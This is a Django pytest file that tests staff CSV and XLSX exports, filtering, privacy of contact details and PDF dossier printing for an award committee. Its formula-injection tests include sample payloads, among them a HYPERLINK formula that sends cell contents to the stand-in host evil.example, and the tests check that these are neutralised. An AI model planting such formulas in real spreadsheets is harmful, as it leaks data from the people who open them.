"""Tables staff download — filtered as on screen, CSV and XLSX, safe from formula injection —
and the candidate dossier as a PDF for committee members who read on paper."""

import csv
from io import BytesIO, StringIO

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from laurel.core.models import AuditEntry
from laurel.core.tables import cell, table_response
from laurel.cycles.enums import Phase
from laurel.review import services
from tests.candidates.helpers import confirmed
from tests.conftest import sign_in
from tests.factories import in_phase
from tests.pdf import pdf_text
from tests.scenarios import member, open_review, ready

pytestmark = pytest.mark.django_db


def rows_of(response) -> list[list[str]]:
    if response["Content-Type"].startswith("text/csv"):
        text = response.content.decode("utf-8")
        assert text.startswith("\ufeff")  # Excel reads it as UTF-8
        return list(csv.reader(StringIO(text[1:])))
    sheet = load_workbook(BytesIO(response.content)).active
    return [["" if v is None else str(v) for v in row] for row in sheet.iter_rows(values_only=True)]


@pytest.mark.parametrize(
    ("value", "safe"),
    [("=HYPERLINK(\"http://x\")", "'=HYPERLINK(\"http://x\")"), ("+46 70", "'+46 70"),
     ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"), ("Trygga Nätet", "Trygga Nätet"), (3, 3),
     (["sv", "en"], "sv, en")],
)  # fmt: skip
def test_a_cell_that_would_be_a_formula_is_made_text(value, safe):
    assert cell(value) == safe


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_table_comes_back_with_its_header_and_rows(fmt):
    response = table_response("t", ["Name", "Count"], [["=1+1", 2], ["Łódź", 3]], fmt)

    assert response["Content-Disposition"] == f'attachment; filename="t.{fmt}"'
    assert rows_of(response) == [["Name", "Count"], ["'=1+1", "2"], ["Łódź", "3"]]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_candidates_download_is_filtered_as_on_screen(staff_client, child10, fmt):
    confirmed(child10, "Trygga Nätet", country="SE")
    confirmed(child10, "Fundacja Dzieci", country="PL")

    response = staff_client.get(reverse("candidates:list"), {"country": "pl", "format": fmt})

    rows = rows_of(response)
    assert rows[0][:3] == ["Number", "Organisation", "Country"]
    assert [row[1] for row in rows[1:]] == ["Fundacja Dzieci"]


def test_the_nominations_download_is_filtered_and_holds_no_contact_details(staff_client, child10):
    confirmed(child10, "Trygga Nätet", email="anna@example.org")
    held = confirmed(child10, "Other Org")
    held.held_for_moderation = True
    held.save(update_fields=["held_for_moderation"])

    everything = rows_of(staff_client.get(reverse("nominations:staff_list"), {"format": "csv"}))
    only_held = rows_of(
        staff_client.get(reverse("nominations:staff_list"), {"show": "held", "format": "xlsx"})
    )

    assert sorted(row[2] for row in everything[1:]) == ["Other Org", "Trygga Nätet"]
    assert [row[2] for row in only_held[1:]] == ["Other Org"]
    assert "anna@example.org" not in str(everything)


def reviewed_by_three(child10, staff_user, name: str) -> list:
    """One candidate called `name`, scored 4 on every criterion by three members: the members."""
    people = [member(child10, f"m{n}@example.org") for n in range(3)]
    strong = ready(child10, name, website="https://strong.se", staff=staff_user)
    in_phase(child10, Phase.SCREENING)
    services.propose_assignment(child10, actor=staff_user, k=3)
    services.publish_assignment(child10, actor=staff_user)
    open_review(child10)
    for person in people:
        services.save_review(
            person, strong, scores={str(n): 4 for n in range(1, 5)}, comments={},
            recommendation="yes", submit=True,
        )  # fmt: skip
    return people


def test_results_and_reviews_download(staff_client, staff_user, child10):
    people = reviewed_by_three(child10, staff_user, "Strong Org")

    results = rows_of(staff_client.get(reverse("review:results"), {"format": "csv"}))
    reviews = rows_of(
        staff_client.get(reverse("review:results"), {"format": "xlsx", "table": "reviews"})
    )

    assert results[0][:3] == ["Candidate", "Reviews", "Normalised total"]
    assert results[1][:2] == ["Strong Org", "3"]
    assert sorted(row[1] for row in reviews[1:]) == sorted(p.full_name for p in people)
    # Each criterion's score, then its comment.
    assert all(row[4:12:2] == ["4", "4", "4", "4"] for row in reviews[1:])


def test_the_results_workbook_makes_a_nominated_formula_text(staff_client, staff_user, child10):
    formula = ' =HYPERLINK("http://evil.example/?leak="&B2,"Open")'  # after a space
    reviewed_by_three(child10, staff_user, formula)

    response = staff_client.get(reverse("review:results"), {"format": "xlsx"})

    book = load_workbook(BytesIO(response.content))
    assert book.sheetnames == ["Results", "Reviews", "Agreement"]
    assert book["Results"]["A2"].value == "'" + formula
    assert {row[0] for row in book["Reviews"].iter_rows(min_row=2, values_only=True)} == {
        "'" + formula
    }
    assert response["Cache-Control"] == "no-store, private"


def test_a_member_prints_the_dossier_and_it_says_for_whom(client, staff_user, child10):
    from laurel.candidates.services import save_committee_version

    candidate = ready(child10, "Trygga Nätet", website="https://trygga.se", staff=staff_user)
    nomination = candidate.placements.get().nomination
    texts = {"answer_1": "Trains moderators (as edited for the committee)."}
    save_committee_version(nomination, texts=texts, actor=staff_user)
    reader = member(child10, "reader@example.org")
    sign_in(client, reader)

    response = client.get(reverse("review:dossier_pdf", kwargs={"pk": candidate.pk}))

    assert response["Content-Type"] == "application/pdf"
    words = pdf_text(response.content)
    assert "Trygga Nätet" in words
    assert "printed for reader@example.org" in words
    assert "Trains moderators (as edited for the committee)." in words
    assert "runs a helpline" not in words  # the original text never reaches the committee
    assert "Nominator" not in words  # never who nominated
    entry = AuditEntry.objects.get(key="dossier.printed")
    assert entry.actor == reader and entry.subject_id == str(candidate.pk)


def test_a_conflicted_member_gets_no_dossier(client, staff_user, child10):
    from laurel.review.models import Conflict

    candidate = ready(child10, "Trygga Nätet", website="https://trygga.se", staff=staff_user)
    reader = member(child10, "reader@example.org")
    Conflict.objects.create(
        cycle=child10, member=reader, candidate=candidate, kind="board", state="confirmed",
        declared=True,
    )  # fmt: skip
    sign_in(client, reader)

    response = client.get(reverse("review:dossier_pdf", kwargs={"pk": candidate.pk}))

    assert response.status_code == 404
    assert not AuditEntry.objects.filter(key="dossier.printed").exists()
